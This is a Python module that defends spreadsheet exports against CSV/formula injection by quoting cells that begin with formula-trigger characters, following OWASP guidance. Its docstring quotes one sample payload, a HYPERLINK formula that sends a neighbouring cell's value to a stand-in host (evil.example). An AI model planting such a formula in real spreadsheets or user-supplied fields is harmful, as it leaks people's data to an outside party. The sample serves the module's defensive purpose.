"""Cells that are safe to open: what a resident typed never runs as a formula.

Every CSV and xlsx the product writes passes its cells through `safe_cell`, so a name such
as ``=HYPERLINK("http://evil.example/?"&D2,"点我")`` arrives in Excel, WPS or LibreOffice as
the text it is, not as a link that sends the neighbouring cell away.
"""

from __future__ import annotations

from collections.abc import Iterable

# OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): a spreadsheet
# program reads a cell starting with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: object) -> object:
    """The value to write into a CSV or xlsx cell.

    Text starting with =, +, -, @, tab or carriage return gets a leading single quote, as
    OWASP's CSV injection guidance says, so every spreadsheet program shows it as text.
    The decision is by type, not by look: a number written as a number (int, float,
    Decimal — negative ones included) stays a number, because a numeric cell can never be
    a formula; text that merely looks like a number ("-5" in a remarks column) is still
    text and is quoted, since a reader cannot tell "-5" from "-2+3" without evaluating it.
    None stays None (an empty cell); dates and booleans pass unchanged.

    In an xlsx the quoted text is a plain string cell (openpyxl stores a str starting with
    "=" as a formula; one starting with "'" it stores as text), so no cell built from user
    data is ever a formula, and the file still holds no formula after a round trip through
    CSV.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    """`safe_cell` over one row: what `csv.writer.writerow` or `Worksheet.append` receives."""
    return [safe_cell(value) for value in values]
